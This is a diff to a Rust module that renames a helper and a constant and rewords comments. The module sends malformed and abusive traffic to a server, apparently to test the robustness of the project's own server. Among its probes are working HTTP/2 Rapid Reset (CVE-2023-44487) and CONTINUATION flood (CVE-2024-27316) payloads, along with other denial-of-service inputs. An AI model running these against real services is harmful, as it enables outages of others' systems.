@@ -6,10 +6,10 @@ use stele_types::Prng;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 
-/// How long an attacker waits for an answer, or goes on writing.
-const PATIENCE: Duration = Duration::from_millis(150);
+/// Time for which an attacker waits for a response, or continues to write.
+const TIME_LIMIT: Duration = Duration::from_millis(150);
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-/// What a peer's connection begins with.
+/// First bytes of a peer's connection.
 const PEER_MAGIC: &[u8] = b"STELEPR1";
 const EMPTY_SETTINGS: [u8; 9] = [0, 0, 0, 4, 0, 0, 0, 0, 0];
 
@@ -23,7 +23,7 @@ pub struct Attack {
 
 macro_rules! attacks {
     ($($name:ident)*) => {
-        /// All of them.
+        /// All attacks.
         pub const ATTACKS: &[Attack] = &[$(Attack {
             name: stringify!($name),
             run: |address, prng| Box::pin($name(address, prng)),
@@ -37,8 +37,8 @@ attacks! {
     h2_header_junk h2_rapid_reset h2_endless_headers h2_window_overflow silent_connections
 }
 
-/// Writes, reads what comes for a moment, and leaves. A refusal is what it may expect.
-async fn throw(address: &str, bytes: &[u8]) {
+/// Writes bytes, reads for a moment, and disconnects. The server may refuse.
+async fn send_raw(address: &str, bytes: &[u8]) {
     let exchange = async {
         let mut stream = TcpStream::connect(address).await?;
         stream.write_all(bytes).await?;
@@ -46,14 +46,14 @@ async fn throw(address: &str, bytes: &[u8]) {
         while stream.read(&mut answer).await? > 0 {}
         std::io::Result::Ok(())
     };
-    let _ = tokio::time::timeout(PATIENCE, exchange).await;
+    let _ = tokio::time::timeout(TIME_LIMIT, exchange).await;
 }
 
 fn noise(prng: &mut Prng, bytes_max: u64) -> Vec<u8> {
     (0..1 + prng.below(bytes_max)).map(|_| prng.draw() as u8).collect()
 }
 
-/// A frame of HTTP/2: length (24 bits), type, flags, stream, payload.
+/// Builds an HTTP/2 frame: length (24 bits), type, flags, stream, payload.
 fn frame(length: usize, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     let mut out = (length as u32).to_be_bytes()[1..].to_vec();
     out.extend([kind, flags]);
@@ -67,22 +67,22 @@ fn h2(frames: &[Vec<u8>]) -> Vec<u8> {
 }
 
 async fn random_bytes(address: &str, prng: &mut Prng) {
-    throw(address, &noise(prng, 100_000)).await;
+    send_raw(address, &noise(prng, 100_000)).await;
 }
 
 async fn peer_magic_and_garbage(address: &str, prng: &mut Prng) {
-    throw(address, &[PEER_MAGIC, &noise(prng, 100_000)].concat()).await;
+    send_raw(address, &[PEER_MAGIC, &noise(prng, 100_000)].concat()).await;
 }
 
 async fn peer_magic_and_huge_length(address: &str, prng: &mut Prng) {
     let lengths = [[0xff; 8], [0x7f; 8], [0xff, 0xff, 0xff, 0x7f, 0, 0, 0, 0]];
     let length = lengths[prng.below(3) as usize];
-    throw(address, &[PEER_MAGIC, &length, &length, &noise(prng, 64)].concat()).await;
+    send_raw(address, &[PEER_MAGIC, &length, &length, &noise(prng, 64)].concat()).await;
 }
 
 async fn peer_magic_cut_short(address: &str, prng: &mut Prng) {
     let upto = prng.below(PEER_MAGIC.len() as u64) as usize;
-    throw(address, &PEER_MAGIC[..upto]).await;
+    send_raw(address, &PEER_MAGIC[..upto]).await;
 }
 
 async fn http_junk(address: &str, prng: &mut Prng) {
@@ -95,16 +95,16 @@ async fn http_junk(address: &str, prng: &mut Prng) {
             .to_owned(),
         "\0\r\n\r\n".to_owned(),
     ];
-    throw(address, lines[prng.below(lines.len() as u64) as usize].as_bytes()).await;
+    send_raw(address, lines[prng.below(lines.len() as u64) as usize].as_bytes()).await;
 }
 
 async fn http_endless_header(address: &str, _: &mut Prng) {
-    throw(address, &[b"GET / HTTP/1.1\r\nX: ".as_slice(), &vec![b'a'; 8 << 20]].concat()).await;
+    send_raw(address, &[b"GET / HTTP/1.1\r\nX: ".as_slice(), &vec![b'a'; 8 << 20]].concat()).await;
 }
 
 async fn http_two_lengths(address: &str, _: &mut Prng) {
     let text = "POST / HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 4294967295\r\n\r\nhello";
-    throw(address, text.as_bytes()).await;
+    send_raw(address, text.as_bytes()).await;
 }
 
 async fn h2_random_frames(address: &str, prng: &mut Prng) {
@@ -114,47 +114,47 @@ async fn h2_random_frames(address: &str, prng: &mut Prng) {
         let (kind, flags) = (prng.below(12) as u8, prng.draw() as u8);
         frames.push(frame(payload.len(), kind, flags, prng.below(9) as u32, &payload));
     }
-    throw(address, &h2(&frames)).await;
+    send_raw(address, &h2(&frames)).await;
 }
 
 async fn h2_huge_frame(address: &str, prng: &mut Prng) {
     let payload = vec![0; 1 << 20];
-    throw(address, &h2(&[frame(0x00ff_ffff, prng.below(10) as u8, 0, 1, &payload)])).await;
+    send_raw(address, &h2(&[frame(0x00ff_ffff, prng.below(10) as u8, 0, 1, &payload)])).await;
 }
 
-/// A header block that refers to entries the table does not have.
+/// Sends a header block that refers to entries missing from the table.
 async fn h2_header_junk(address: &str, prng: &mut Prng) {
     let mut block = vec![0xff, 0xff, 0xff, 0xff, 0x7f];
     block.extend(noise(prng, 1_000));
-    throw(address, &h2(&[frame(block.len(), 1, 0x4, 1, &block)])).await;
+    send_raw(address, &h2(&[frame(block.len(), 1, 0x4, 1, &block)])).await;
 }
 
-/// Opens streams and takes them back at once (CVE-2023-44487).
+/// Opens streams and resets them immediately (CVE-2023-44487).
 async fn h2_rapid_reset(address: &str, _: &mut Prng) {
-    // `:method POST`, `:scheme http`, `:path /`, all of the static table.
+    // `:method POST`, `:scheme http`, `:path /`, all from the static table.
     let block = [0x83, 0x86, 0x84];
     let mut frames = Vec::new();
     for stream in (1..20_001).step_by(2) {
         frames.push(frame(block.len(), 1, 0x4, stream, &block));
         frames.push(frame(4, 3, 0, stream, &[0, 0, 0, 8]));
     }
-    throw(address, &h2(&frames)).await;
+    send_raw(address, &h2(&frames)).await;
 }
 
-/// A header block that is continued for ever (CVE-2024-27316).
+/// Sends a header block with continuations without end (CVE-2024-27316).
 async fn h2_endless_headers(address: &str, _: &mut Prng) {
     let block = [&[0x40, 0x01, b'a', 0x7f, 0x80, 0x7f][..], &[b'b'; 16_000]].concat();
     let mut frames = vec![frame(block.len(), 1, 0, 1, &block)];
     frames.extend((0..400).map(|_| frame(block.len(), 9, 0, 1, &block)));
-    throw(address, &h2(&frames)).await;
+    send_raw(address, &h2(&frames)).await;
 }
 
 async fn h2_window_overflow(address: &str, _: &mut Prng) {
     let update = frame(4, 8, 0, 0, &[0x7f, 0xff, 0xff, 0xff]);
-    throw(address, &h2(&[update.clone(), update.clone(), update])).await;
+    send_raw(address, &h2(&[update.clone(), update.clone(), update])).await;
 }
 
-/// Connections that say nothing, or only begin to.
+/// Opens connections that send nothing, or only part of the preface.
 async fn silent_connections(address: &str, prng: &mut Prng) {
     let mut open = Vec::new();
     for _ in 0..100 {
@@ -164,5 +164,5 @@ async fn silent_connections(address: &str, prng: &mut Prng) {
             open.push(stream);
         }
     }
-    tokio::time::sleep(PATIENCE).await;
+    tokio::time::sleep(TIME_LIMIT).await;
 }
